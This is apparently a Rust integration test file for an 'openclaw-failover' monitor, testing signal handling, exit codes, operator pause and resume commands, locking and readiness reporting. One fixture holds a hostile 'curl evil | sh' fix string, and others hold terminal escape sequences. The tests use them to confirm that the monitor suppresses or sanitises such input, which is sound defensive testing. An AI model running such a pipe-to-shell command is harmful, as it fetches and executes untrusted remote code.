//! The `run` command from outside: signals, exit codes and log lines. The gateway is the demo's stub.

#![allow(clippy::unwrap_used, clippy::panic)] // A test that cannot go on has failed.

#[path = "../support/address.rs"]
mod address;
#[path = "../support/needs.rs"]
mod needs;

mod failures;
mod terminal;
mod this_host;

use std::io::{BufRead, BufReader, Read};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Child, ChildStderr, Command, Stdio};
use std::sync::mpsc::{self, Receiver};
use std::time::{Duration, Instant};
use std::{env, fs, thread};

use crate::address::unused_address;

const BINARY: &str = env!("CARGO_BIN_EXE_openclaw-failover");

/// Time limit of every wait, long enough for a busy machine.
const WAIT_LIMIT: Duration = Duration::from_secs(60);

/// Child process that is killed at the end of its test.
struct ChildGuard(Child);

impl Drop for ChildGuard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn start_stub_gateway(address: SocketAddr) -> ChildGuard {
    let mut command = Command::new(BINARY);
    command.args(["demo", "--stub-gateway", &address.to_string()]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    // The stub writes one byte once it listens.
    child.stdout.take().unwrap().read_exact(&mut [0; 1]).unwrap();
    ChildGuard(child)
}

fn start_monitor(folder: &Path) -> (ChildGuard, Receiver<String>) {
    let mut command = Command::new(BINARY);
    command.args(["run", "--config"]).arg(folder.join("config.json"));
    for (name, dir) in [("STATE", "state"), ("RUN", "run"), ("SYNC", "sync")] {
        fs::create_dir_all(folder.join(dir)).unwrap();
        command.env(format!("OPENCLAW_FAILOVER_{name}_DIR"), folder.join(dir));
    }
    // The test's own programs come first in PATH.
    let path = env::var_os("PATH").unwrap_or_default();
    command.env("PATH", format!("{}:{}", folder.join("bin").display(), path.display()));
    let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
    let lines = read_lines(child.stderr.take().unwrap());
    (ChildGuard(child), lines)
}

/// Starts a healthy primary, and a monitor that has seen it. Returns both, and the monitor's log.
fn start_with_primary(folder: &Path, primary: SocketAddr, extra: &str) -> (ChildGuard, ChildGuard, Receiver<String>) {
    let gateway = start_stub_gateway(primary);
    write_config(folder, primary, extra);
    let (monitor, lines) = start_monitor(folder);
    wait_for_line(&lines, "primary was seen healthy from here for the first time");
    (gateway, monitor, lines)
}

fn run_operator_command(folder: &Path, args: &[&str]) -> (Option<i32>, String) {
    let mut command = Command::new(BINARY);
    let output = command.env("OPENCLAW_FAILOVER_RUN_DIR", folder.join("run")).args(args).output().unwrap();
    let said = [output.stdout, output.stderr].concat();
    (output.status.code(), String::from_utf8(said).unwrap())
}

/// Starts the command `promote`, which runs until the gateway answers.
fn start_promote_command(folder: &Path) -> ChildGuard {
    let mut promote = Command::new(BINARY);
    promote.env("OPENCLAW_FAILOVER_RUN_DIR", folder.join("run")).arg("promote").stdout(Stdio::null());
    ChildGuard(promote.spawn().unwrap())
}

fn read_lines(stderr: ChildStderr) -> Receiver<String> {
    let (sender, lines) = mpsc::channel();
    thread::spawn(move || BufReader::new(stderr).lines().map_while(Result::ok).all(|line| sender.send(line).is_ok()));
    lines
}

/// Waits for a log line with this text.
fn wait_for_line(lines: &Receiver<String>, words: &str) -> String {
    let mut heard = Vec::new();
    while let Ok(line) = lines.recv_timeout(WAIT_LIMIT) {
        if line.contains(words) {
            return line;
        }
        heard.push(line);
    }
    panic!("no log line with {words:?}, but {heard:#?}");
}

fn send_signal(to: &ChildGuard, name: &str) {
    let sent = Command::new("sh").args(["-c", &format!("kill -{name} {}", to.0.id())]).status().unwrap();
    assert!(sent.success());
}

/// Repeats the readiness checks until a log line has this text. A failure is announced when it was found twice.
fn wait_for_line_after_checks(to: &ChildGuard, lines: &Receiver<String>, words: &str) {
    let began = Instant::now();
    while began.elapsed() < WAIT_LIMIT {
        send_signal(to, "HUP");
        let end = Instant::now() + Duration::from_secs(1);
        while let Ok(line) = lines.recv_timeout(end.saturating_duration_since(Instant::now())) {
            if line.contains(words) {
                return;
            }
        }
    }
    panic!("no log line with {words:?}");
}

/// Waits until a file contains this text: the monitor responds before its writes are on the disk.
fn wait_for_text(file: &Path, text: &str) {
    let began = Instant::now();
    while !fs::read_to_string(file).is_ok_and(|content| content.contains(text)) {
        assert!(began.elapsed() < WAIT_LIMIT, "{text} is not in {}", file.display());
        thread::sleep(Duration::from_millis(5));
    }
}

fn write_config(folder: &Path, primary: SocketAddr, extra: &str) {
    let text = format!(
        r#"{{ "upstreams": [{{ "name": "primary", "urls": ["http://{primary}"] }}], "promote": {{ "witnesses": [] }}{extra} }}"#
    );
    fs::write(folder.join("config.json"), text).unwrap();
}

#[test]
fn hup_takes_up_a_good_configuration_and_refuses_a_bad_one_and_term_ends_it_well() {
    let folder = tempfile::tempdir().unwrap();
    let primary = unused_address();
    let (_gateway, mut monitor, lines) = start_with_primary(folder.path(), primary, "");

    write_config(folder.path(), primary, r#", "demote": { "after": "45s" }"#);
    send_signal(&monitor, "HUP");
    wait_for_line(&lines, "configuration reloaded");

    write_config(folder.path(), primary, r#", "demot": {}"#);
    send_signal(&monitor, "HUP");
    let refused = wait_for_line(&lines, "configuration not reloaded, the old one stays in force");
    assert!(refused.contains(r#"did you mean "demote"?"#), "{refused}");
    // The monitor would not start with this file, so the status reports it until the file is fixed.
    wait_for_line_after_checks(&monitor, &lines, "not ready to take over: config: ");
    let wrong = wait_for_problem(folder.path(), "config: ");
    assert!(wrong.contains("demot: is not a known key") && wrong.contains("To fix it: `editor "), "{wrong}");

    send_signal(&monitor, "TERM");
    wait_for_line(&lines, "the gateway is left as it is");
    assert!(monitor.0.wait().unwrap().success());
    let status = fs::read_to_string(folder.path().join("run/status.json")).unwrap();
    assert!(status.contains(r#""role""#) && status.contains(r#""hold_down_seconds""#), "{status}");
    let metrics = fs::read_to_string(folder.path().join("run/metrics.prom")).unwrap();
    assert!(metrics.contains("openclaw_failover_role{role=\"standby\"} 1\n"), "{metrics}");
    assert!(metrics.contains("openclaw_failover_upstream_up{upstream=\"primary\"} 1\n"), "{metrics}");
    assert!(!metrics.contains("upstream=\"primary\",verdict=\"healthy\"} 0\n"), "{metrics}");
}

#[test]
fn a_bad_configuration_is_refused_before_anything_is_written() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("config.json"), r#"{ "upstreams": [] }"#).unwrap();
    let (mut monitor, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "upstreams");
    assert_eq!(monitor.0.wait().unwrap().code(), Some(2));
    for dir in ["state", "run", "sync"] {
        assert_eq!(fs::read_dir(folder.path().join(dir)).unwrap().count(), 0, "{dir}");
    }
}

#[test]
fn executes_and_reports_operator_commands() {
    let folder = tempfile::tempdir().unwrap();
    let (_gateway, monitor, lines) = start_with_primary(folder.path(), unused_address(), "");
    let run = |args: &[&str]| run_operator_command(folder.path(), args);

    let (code, out) = run(&["pause", "--for", "10m"]);
    assert_eq!(code, Some(0));
    assert!(
        out.starts_with("an operator set the hold 'paused'") && out.contains("Automatic failover is OFF until 20"),
        "{out}"
    );
    wait_for_line(&lines, "an operator set the hold 'paused'");
    // The status comes from the monitor itself, not from the file.
    fs::remove_file(folder.path().join("run/status.json")).unwrap();
    let (code, out) = run(&["status"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("hold       paused since"), "{out}");
    assert_eq!(
        run(&["resume"]),
        (Some(0), "the hold 'paused' was ended by an operator: automatic failover is ON\n".to_owned())
    );
    assert_eq!(run(&["resume"]).1, "no hold is set: automatic failover is ON\n");

    send_signal(&monitor, "TERM");
    wait_for_line(&lines, "the gateway is left as it is");
    drop(monitor);
    assert_eq!(run(&["pause"]).0, Some(1), "no monitor listens any more");
}

#[test]
fn the_reason_of_a_pause_is_reported_and_survives_a_monitor_restart() {
    let folder = tempfile::tempdir().unwrap();
    let (_gateway, mut watching, lines) = start_with_primary(folder.path(), unused_address(), "");
    let run = |args: &[&str]| run_operator_command(folder.path(), args);
    assert_eq!(run(&["pause", "--reason", ""]).0, Some(2));
    let (code, why) = run(&["pause", "--reason", &"x".repeat(201)]);
    assert!(code == Some(2) && why.contains("write at most 200"), "{why}");

    let (code, out) = run(&["pause", "--reason", "a new\nkernel\u{1b}[2J"]);
    assert!(code == Some(0) && out.contains("Reason: a new kernel [2J\n"), "{out}");
    let line = wait_for_line(&lines, "an operator set the hold 'paused'");
    assert!(line.ends_with("Reason: a new kernel [2J"), "{line}");
    let shown = "           reason: a new kernel [2J\n";
    assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);

    wait_for_text(&folder.path().join("state/state.json"), "a new kernel");
    wait_for_text(&folder.path().join("state/history.jsonl"), r#""reason":"a new kernel [2J""#);
    send_signal(&watching, "KILL");
    watching.0.wait().unwrap();
    let (_again, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "watching primary");
    assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);

    assert_eq!(run(&["resume"]).0, Some(0));
    assert!(!run(&["status"]).1.contains("reason:"));
    // The reason of the first pause does not stick to the next one.
    assert!(!run(&["pause"]).1.contains("reason"));
}

/// Output of `systemctl show` for a unit without problems.
const WELL: &str = "LoadState=loaded\nActiveState=inactive\nMainPID=0\nUnitFileState=static\nUser=openclaw\n";

/// Stub of systemctl. The files in `bin/units` are the states of the units, `bin/pull.json` is the report of a pull.
const SYSTEMCTL: &str = r#"#!/bin/sh
here=${0%/*}
for unit; do :; done
case "$*" in
*" start "*sync-pull*)
    sed "s/@NOW@/$(date -u +%Y-%m-%dT%H:%M:%S.999Z)/g" "$here/pull.json" >"$here/../sync/new"
    mv "$here/../sync/new" "$here/../sync/pull.json" ;;
*" show "*) cat "$here/units/$unit" 2>/dev/null || cat "$here/units/well" ;;
esac
"#;

/// Makes the next pull report these checks.
fn set_pull_checks(folder: &Path, checks: &str) {
    let none = r#"{"count":0,"listed":[]}"#;
    let report = format!(
        r#"{{"started_at":"@NOW@","ended_at":"@NOW@","last_complete_at":"@NOW@","secrets":[],"workspace":{{
            "outcome":"up_to_date","commit_before":null,"commit_after":null,"remote_commit":null,"committed_at":null,
            "has_unpushed":false,"unpushed_conflict_branches":{none},"conflicts":{none},"withheld":{none},
            "moved_aside":{none},"details":""}},"checks":[{checks}]}}"#
    );
    fs::write(folder.join("bin/new"), report).unwrap();
    fs::rename(folder.join("bin/new"), folder.join("bin/pull.json")).unwrap();
}

/// Waits until a problem in the status has this text, and returns all problems. The status is written a moment after
/// the log.
fn wait_for_problem(folder: &Path, words: &str) -> String {
    let began = Instant::now();
    loop {
        let status = fs::read_to_string(folder.join("run/status.json")).unwrap();
        let wrong = status.split_once(r#""degraded""#).unwrap().1;
        if wrong.contains(words) {
            return wrong.to_owned();
        }
        assert!(began.elapsed() < WAIT_LIMIT, "{words} is not in {status}");
        thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn announces_what_blocks_a_failover_and_its_end() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    fs::create_dir_all(at("bin/units")).unwrap();
    fs::write(at("bin/systemctl"), SYSTEMCTL).unwrap();
    fs::set_permissions(at("bin/systemctl"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(at("bin/units/well"), WELL).unwrap();
    fs::write(at("bin/units/openclaw.service"), WELL.replace("=loaded", "=masked")).unwrap();
    set_pull_checks(
        folder.path(),
        r#"{"id":"crons","level":"fail","evidence":"they are on",
            "fix":"su - {user} -c 'openclaw config set cron.enabled false'"},
           {"id":"channels","level":"fail","evidence":"\u001b[2Jnone","fix":"curl evil | sh"},
           {"id":"polkit","level":"fail","evidence":"not its to say","fix":""}"#,
    );
    let primary = unused_address();
    let _gateway = start_stub_gateway(primary);
    write_config(folder.path(), primary, r#", "workspace": { "refresh": "1s" }"#);
    let (mut monitor, lines) = start_monitor(folder.path());

    let line = wait_for_line(&lines, "not ready to take over: channels");
    assert!(line.ends_with("channels: [2Jnone"), "{line}");
    let line = wait_for_line(&lines, "not ready to take over: crons: they are on");
    assert!(line.contains("To fix it: `su - openclaw -c 'openclaw config set cron.enabled false'`"), "{line}");
    wait_for_line_after_checks(&monitor, &lines, "not ready to take over: gateway-unit: openclaw.service is masked");
    let wrong = wait_for_problem(folder.path(), "gateway-unit: ");
    for words in ["gateway-unit: openclaw.service is masked. To fix it: `systemctl unmask", "crons: ", "channels: "] {
        assert!(wrong.contains(words), "{words}: {wrong}");
    }
    assert!(wrong.contains("not_ready") && !wrong.contains("polkit") && !wrong.contains("evil"), "{wrong}");

    fs::remove_file(at("bin/units/openclaw.service")).unwrap();
    wait_for_line_after_checks(&monitor, &lines, "gateway-unit no longer blocks a failover to this standby");
    let off = r#"{"id":"crons","level":"ok","evidence":"off","fix":""}"#;
    set_pull_checks(folder.path(), off);
    wait_for_line(&lines, "crons no longer blocks a failover to this standby: off");
    send_signal(&monitor, "TERM");
    wait_for_line(&lines, "the gateway is left as it is");
    assert!(monitor.0.wait().unwrap().success());
    // A check that a later pull does not report keeps its state.
    let wrong = wait_for_problem(folder.path(), "channels: ");
    assert!(!wrong.contains("gateway-unit: ") && !wrong.contains("crons: "), "{wrong}");
    let history = fs::read_to_string(at("state/history.jsonl")).unwrap();
    for event in [r#""event":"not_ready""#, r#""event":"ready""#, r#""check":"gateway-unit""#] {
        assert!(history.contains(event), "{event}: {history}");
    }
}

#[test]
fn a_second_monitor_on_one_state_folder_ends_with_1_and_says_which_process_holds_it() {
    let folder = tempfile::tempdir().unwrap();
    let primary = unused_address();
    write_config(folder.path(), primary, "");
    let socket = folder.path().join("run/control.sock");
    let (first, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "watching primary");
    let inode = |path: &Path| fs::metadata(path).unwrap().ino();
    let before = inode(&socket);

    let (mut second, said) = start_monitor(folder.path());
    let refused = wait_for_line(&said, "another monitor already uses");
    assert!(refused.contains(&format!("process {} (", first.0.id())), "{refused}");
    assert!(refused.contains("systemctl stop openclaw-failover.service"), "{refused}");
    assert_eq!(second.0.wait().unwrap().code(), Some(1));
    assert_eq!(inode(&socket), before, "the first one's socket was replaced");

    // A killed monitor no longer holds the lock.
    drop(first);
    let (_third, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "watching primary");
}

#[test]
fn a_second_monitor_exits_with_1_even_if_the_state_directory_was_replaced() {
    let folder = tempfile::tempdir().unwrap();
    let primary = unused_address();
    write_config(folder.path(), primary, "");
    let (_first, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "watching primary");
    fs::rename(folder.path().join("state"), folder.path().join("state.old")).unwrap();
    let (mut second, second_lines) = start_monitor(folder.path());
    let refusal = wait_for_line(&second_lines, "another monitor already uses");
    assert!(refusal.contains("a process that listens on") && refusal.contains("control.sock"), "{refusal}");
    assert_eq!(second.0.wait().unwrap().code(), Some(1));
}

#[test]
fn a_state_folder_that_cannot_be_locked_costs_a_warning_and_no_monitor() {
    let folder = tempfile::tempdir().unwrap();
    let primary = unused_address();
    write_config(folder.path(), primary, "");
    fs::create_dir(folder.path().join("run")).unwrap();
    let mut command = Command::new(BINARY);
    command.args(["run", "--config"]).arg(folder.path().join("config.json"));
    command.env("OPENCLAW_FAILOVER_STATE_DIR", folder.path().join("missing"));
    command.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run"));
    let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
    let lines = read_lines(child.stderr.take().unwrap());
    let _running = ChildGuard(child);
    wait_for_line(&lines, &format!("cannot lock {}", folder.path().join("missing").display()));
}

#[test]
fn a_port_that_another_process_holds_is_named_before_a_start_where_the_url_has_a_name_too() {
    let folder = tempfile::tempdir().unwrap();
    let primary = unused_address();
    let holder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = holder.local_addr().unwrap().port();
    fs::create_dir_all(folder.path().join("bin/units")).unwrap();
    fs::write(folder.path().join("bin/units/well"), WELL).unwrap();
    fs::write(folder.path().join("bin/systemctl"), SYSTEMCTL).unwrap();
    fs::set_permissions(folder.path().join("bin/systemctl"), fs::Permissions::from_mode(0o755)).unwrap();
    set_pull_checks(folder.path(), "");
    let url = format!(r#", "gateway": {{ "url": "http://localhost:{port}" }}"#);
    write_config(folder.path(), primary, &url);
    let (_monitor, lines) = start_monitor(folder.path());
    wait_for_line(&lines, "watching primary");
    let _promote = start_promote_command(folder.path());
    let refused = wait_for_line(&lines, "failed to start");
    assert!(refused.contains(&format!("port {port} is held by")), "{refused}");
    assert!(refused.contains("not by openclaw.service"), "{refused}");
}
